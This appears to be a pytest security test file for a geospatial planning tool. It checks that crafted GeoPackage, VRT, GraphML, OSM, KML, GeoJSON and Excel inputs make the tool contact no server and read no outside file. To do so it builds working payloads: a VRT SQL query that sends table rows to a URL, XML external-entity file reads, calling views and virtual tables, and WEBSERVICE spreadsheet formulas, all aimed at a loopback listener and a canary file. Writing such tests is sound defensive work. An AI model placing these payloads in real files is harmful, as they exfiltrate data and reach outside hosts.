"""Nothing leaves the machine: files made to reach a listening server, or a file elsewhere, in every format.

Each stands in the place of every file that placeplan opens, and every command that opens it is called. The server is on
the loopback; a second file, outside all that the county names, is watched for being read.
"""

import hashlib
import http.server
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
import zipfile

import geopandas as gpd
import openpyxl
import pyogrio
import pytest
import shapely
from support.commands import call
from tiny_county import write_tiny_county

CANARY = "a-secret-that-lies-outside"


@pytest.fixture
def heard():
    """The paths that were asked of a server on the loopback, and its address."""
    asked = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET  # noqa: N815 - the name that the library calls

        def log_message(self, *_about):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield asked, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def outside(tmp_path):
    """A file outside the county, made to look as if nobody had read it since it was written."""
    path = tmp_path / "elsewhere" / "secret.csv"
    path.parent.mkdir()
    path.write_text(f"zone,locality\n{CANARY},{CANARY}\n", encoding="utf-8")
    unread(path)
    return path


def unread(path):
    os.utime(path, (1_000_000_000, 1_100_000_000))


def was_read(path):
    return path.stat().st_atime != 1_000_000_000


def vrt(url, secret):
    """The text that made a county's rows leave: a layer over others, with a query that opens an address."""
    text = (
        '<OGRVRTDataSource><OGRVRTLayer name="zones"><SrcDataSource relativeToVRT="1">children.csv</SrcDataSource>'
        '<SrcSQL dialect="SQLITE">QUERY children where ogr_datasource_load_layers('
        f"'/vsicurl/{url}/steal/' || (QUERYALL)) is null</SrcSQL></OGRVRTLayer>"
        f'<OGRVRTLayer name="road_link"><SrcDataSource>/vsicurl/{url}/roads.gpkg</SrcDataSource></OGRVRTLayer>'
        f'<OGRVRTLayer name="localities"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    )
    return text.replace("QUERYALL", "select group_concat(child||zone) from children").replace("QUERY", "select * from")


def texts(url, secret):
    """Files of other formats under the name of a GeoPackage, a graph, an extract or a GeoJSON file."""
    entity = f'<!DOCTYPE graphml [<!ENTITY far SYSTEM "{url}/entity"><!ENTITY near SYSTEM "file://{secret}">]>'
    return {
        "vrt": vrt(url, secret),
        "gml": '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{url} {url}/schema.xsd">'
        f'<gml:featureMember xlink:href="{url}/member"/></gml:FeatureCollection>',
        "kml": f'<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{url}/link.kml</href></Link>'
        "</NetworkLink></kml>",
        "web service": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "raster": f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1"><SimpleSource>'
        f"<SourceFilename>/vsicurl/{url}/tile.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
        "tiles": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}/tiles</ServerUrl></Service></GDAL_WMS>",
        "catalogue": json.dumps({"type": "FeatureCollection", "stac_version": "1.0.0", "features": [
            {"type": "Feature", "geometry": None, "properties": {}, "assets": {"a": {"href": f"{url}/asset"}}}],
            "links": [{"rel": "next", "href": f"{url}/next"}]}),
        "linked crs": json.dumps({"type": "FeatureCollection", "features": [],
            "crs": {"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}}}),
        "esri": json.dumps({"geometryType": "esriGeometryPoint", "spatialReference": {"wkid": 1}, "features": [],
            "exceededTransferLimit": True, "url": f"{url}/FeatureServer"}),
        "address": f"/vsicurl/{url}/county.gpkg",
        "entities": f'<?xml version="1.0"?>{entity}<graphml><graph><node id="&far;&near;"/></graph></graphml>',
        "parameter entity": f'<!DOCTYPE graphml [<!ENTITY % far SYSTEM "{url}/parameter"> %far;]><graphml/>',
        "typed": f'<!DOCTYPE graphml SYSTEM "{url}/graphml.dtd"><graphml><graph edgedefault="directed"/></graphml>',
        "osm": f'{entity.replace("graphml", "osm")}<osm version="0.6"><node id="1" lat="&far;&near;"/></osm>',
    }  # fmt: skip


def lines(layer="road_link"):
    """A few rows for a layer: roads, or areas for any other name."""
    if layer == "road_link":
        return gpd.GeoDataFrame(
            {"road_function": ["A Road"], "start_node": ["n1"], "end_node": ["n2"]},
            geometry=[shapely.LineString([(440000, 350000), (442000, 350000)])], crs=27700,
        )  # fmt: skip
    return gpd.GeoDataFrame({layer[:-1]: ["a"]}, geometry=[shapely.box(0, 0, 1, 1)], crs=27700)


def databases(folder, url, secret):
    """GeoPackages that hold more than tables: views and virtual tables that call, and coordinates that name a file."""
    made = {}
    for name in ("view", "virtual", "grid", "generated"):
        path = folder / f"{name}.gpkg"
        for layer in ("road_link", "localities"):
            pyogrio.write_dataframe(lines(layer), path, layer=layer)
        with sqlite3.connect(path) as base:
            for layer in ("road_link", "localities"):
                if name == "grid":
                    wkt = (
                        'BOUNDCRS[SOURCECRS[GEOGCRS["a",DATUM["b",ELLIPSOID["c",6377563,299]],CS[ellipsoidal,2],'
                        'AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],'
                        'TARGETCRS[GEOGCRS["d",DATUM["e",ELLIPSOID["f",6378137,298]],CS[ellipsoidal,2],'
                        'AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],'
                        'ABRIDGEDTRANSFORMATION["g",METHOD["NTv2"],'
                        f'PARAMETERFILE["Latitude and longitude difference file","{secret}"]]]'
                    )
                    base.execute(
                        "UPDATE gpkg_spatial_ref_sys SET organization = 'NONE', definition = ? WHERE srs_id = 27700",
                        (wkt,),
                    )
                if name in ("view", "virtual"):
                    base.execute(f"ALTER TABLE {layer} RENAME TO kept_{layer}")
                call_out = f"ogr_datasource_load_layers('/vsicurl/{url}/{layer}')"
                if name == "view":
                    base.execute(f"CREATE VIEW {layer} AS SELECT *, {call_out} FROM kept_{layer}")  # noqa: S608 - made by us
                if name == "virtual":
                    base.execute("PRAGMA writable_schema = ON")
                    made_by = f"CREATE VIRTUAL TABLE {layer} USING VirtualOGR('/vsicurl/{url}/virtual')"
                    base.execute("INSERT INTO sqlite_master VALUES ('table', ?, ?, 0, ?)", (layer, layer, made_by))
        base.close()
        made[f"{name} in a database"] = path.read_bytes()
    return made


FORMATS = [
    *texts("", ""),
    *(f"{name} in a database" for name in ("view", "virtual", "grid", "generated")),
]
COMMANDS = (["check"], ["travel"], ["coverage"], ["allocate"])
PLACES = ("county.gpkg", "roads/a.gpkg", "roads/a.graphml", "roads/a.osm.pbf", "localities.geojson")


@pytest.fixture
def crafted(tmp_path, heard, outside):
    """The bytes of a file of a kind, made to reach the server and the file outside."""

    def made(kind):
        if kind.endswith("database"):
            folder = tmp_path / "made"
            folder.mkdir()
            return databases(folder, heard[1], outside)[kind]
        return texts(heard[1], outside)[kind].encode()

    return made


def assert_quiet(heard, outside, results):
    for result in results:
        assert result.exit_code in (0, 2), result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert CANARY not in result.output
    assert heard[0] == []
    assert not was_read(outside)
    for path in outside.parent.parent.rglob("*"):
        assert path == outside or not path.is_file() or CANARY.encode() not in path.read_bytes()


def test_the_watch_sees_what_is_asked_and_read(heard, outside):
    """What the other tests rest on: the server hears, and a file that was read shows it."""
    code = f"import urllib.request; urllib.request.urlopen('{heard[1]}/asked', timeout=5)"
    subprocess.run([sys.executable, "-c", code], check=False, stderr=subprocess.DEVNULL)
    assert heard[0] == ["/asked"]
    outside.read_bytes()
    if not was_read(outside):
        pytest.skip("this disk does not keep the time of reading")


@pytest.mark.parametrize("where", [(place, kind) for place in PLACES for kind in FORMATS], ids=", ".join)
def test_a_file_of_another_kind_asks_nothing_of_anybody(crafted, tiny, heard, outside, where):
    place, kind = where
    if place.startswith("roads/"):
        (tiny / "roads.csv").unlink()
        (tiny / "roads").mkdir()
    (tiny / place).write_bytes(crafted(kind))
    called = COMMANDS if kind == "vrt" else COMMANDS[:2]  # the others read a county and its roads in the same way
    assert_quiet(heard, outside, [call(*command, tiny) for command in called])


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """An internal run with layers."""
    folder = tmp_path_factory.mktemp("run")
    county = write_tiny_county(folder / "tiny")
    made = call("allocate", county, "--out", folder / "run", "--question", "today")
    assert made.exit_code == 0, made.output
    return folder / "run"


@pytest.mark.parametrize("kind", FORMATS)
def test_a_received_run_asks_nothing_of_anybody(run, crafted, heard, outside, kind):
    got = shutil.copytree(run, outside.parent / "got")
    (got / "run.gpkg").write_bytes(crafted(kind))
    record = json.loads((got / "run.json").read_text(encoding="utf-8"))
    record["files"]["run.gpkg"] = hashlib.sha256((got / "run.gpkg").read_bytes()).hexdigest()
    (got / "run.json").write_text(json.dumps(record), encoding="utf-8")
    assert_quiet(
        heard, outside, [call("report", got, "--out", got / "again"), call("compare", got, run, "--out", got / "both")]
    )


def workbook(path, url, secret):
    """A workbook with a form's sheets that links to another, draws a picture and queries data from an address."""
    book = openpyxl.Workbook()
    book.active.title = "county"
    book.active.append(["setting", "value"])
    book.active.append(["name", f"='[1]Sheet1'!A1&WEBSERVICE(\"{url}/service\")"])
    sheet = book.create_sheet("cases")
    sheet.append(["case", "child"])
    sheet.append([f'=HYPERLINK("{url}/link")', f"='file://{secret}'#$Sheet1.A1"])
    book.save(path)
    with zipfile.ZipFile(path, "a") as parts:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        parts.writestr("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="x" xmlns:r="{kind}"/>')
        parts.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            f'<Relationships><Relationship Id="rId1" Type="{kind}/externalLinkPath" Target="{url}/b.xlsx" '
            f'TargetMode="External"/><Relationship Id="rId2" Type="{kind}/image" Target="{url}/p.png" '
            'TargetMode="External"/></Relationships>',
        )
        parts.writestr(
            "xl/connections.xml",
            f'<connections><connection id="1"><webPr url="{url}/query"/></connection></connections>',
        )
    return path


def with_entities(path, url, secret):
    """The workbook with a declaration of entities at the head of every part."""
    before = zipfile.ZipFile(path)
    after = path.with_name("entities.xlsx")
    head = f'<!DOCTYPE x [<!ENTITY far SYSTEM "{url}/entity"><!ENTITY near SYSTEM "file://{secret}">]>'
    with before, zipfile.ZipFile(after, "w") as parts:
        for name in before.namelist():
            text = before.read(name).decode()
            begun = text.index("?>") + 2 if text.startswith("<?xml") else 0
            parts.writestr(name, text[:begun] + head + text[begun:])
    return after


@pytest.mark.parametrize("entities", [False, True])
def test_a_workbook_follows_no_link(tiny, tmp_path, heard, outside, entities):
    path = workbook(tmp_path / "book.xlsx", heard[1], outside)
    if entities:
        path = with_entities(path, heard[1], outside)
    called = [call(*command, path) for command in COMMANDS]
    called += [call("options", tiny, "--form", path)]
    assert_quiet(heard, outside, called)
    assert all(result.exit_code == 2 for result in called)
    assert not entities or all("document type" in result.stderr for result in called)


ADDRESSES = (
    "/vsicurl/URL/a.ENDING", "URL/a.ENDING", "/vsizip//vsicurl/URL/a.zip/a.ENDING", "//127.0.0.1/share/a.ENDING",
    r"\\\\127.0.0.1\\share\\a.ENDING", "GPKG:URL/a.ENDING", "zip+URL/a.zip!a.ENDING", "", "\\u0000", "**a", ".",
)  # fmt: skip


@pytest.mark.parametrize("key", ["roads", "matrix"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_a_path_names_files_of_this_machine(tiny, heard, outside, key, address):
    (tiny / "roads.csv").unlink()
    stated = address.replace("URL", heard[1]).replace("ENDING", "gpkg" if key == "roads" else "csv")
    with (tiny / "county.toml").open("a", encoding="utf-8") as file:
        file.write(f'\n[travel]\n{key} = "{stated}"\nmatrix_format = "long"\nmatrix_unit = "minutes"\n')
    called = [call(*command, tiny) for command in COMMANDS]
    assert_quiet(heard, outside, called)
    assert all(result.exit_code == 2 and (not stated or f"travel.{key}" in result.stderr) for result in called)


@pytest.mark.parametrize("key", ["roads", "matrix"])
def test_a_path_to_a_file_of_another_kind_is_told_and_the_file_not_opened(tiny, heard, outside, key):
    (tiny / "roads.csv").unlink()
    odd = outside.rename(outside.with_suffix(".secret"))
    unread(odd)
    with (tiny / "county.toml").open("a", encoding="utf-8") as file:
        file.write(f'\n[travel]\n{key} = "{odd}"\nmatrix_format = "long"\nmatrix_unit = "minutes"\n')
    called = [call(*command, tiny) for command in COMMANDS]
    assert_quiet(heard, odd, called)
    assert all(result.exit_code == 2 and "secret.secret" in result.stderr for result in called)


def test_no_grid_of_corrections_is_fetched(tiny, tmp_path, heard):
    """Where a machine lets the library of coordinates fetch from the web, it does not from here."""
    there = gpd.read_file(tiny / "localities.geojson").to_crs(4277)[["locality", "name", "geometry"]]
    pyogrio.write_dataframe(there, tiny / "county.gpkg", layer="localities")
    (tiny / "localities.geojson").unlink()
    settings = {"PROJ_NETWORK": "ON", "PROJ_NETWORK_ENDPOINT": heard[1], "PROJ_USER_WRITABLE_DIRECTORY": str(tmp_path)}
    code = f"from placeplan.cli import app; app(['check', {str(tiny)!r}])"
    done = subprocess.run(
        [sys.executable, "-c", code], env={**os.environ, **settings}, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert heard[0] == []
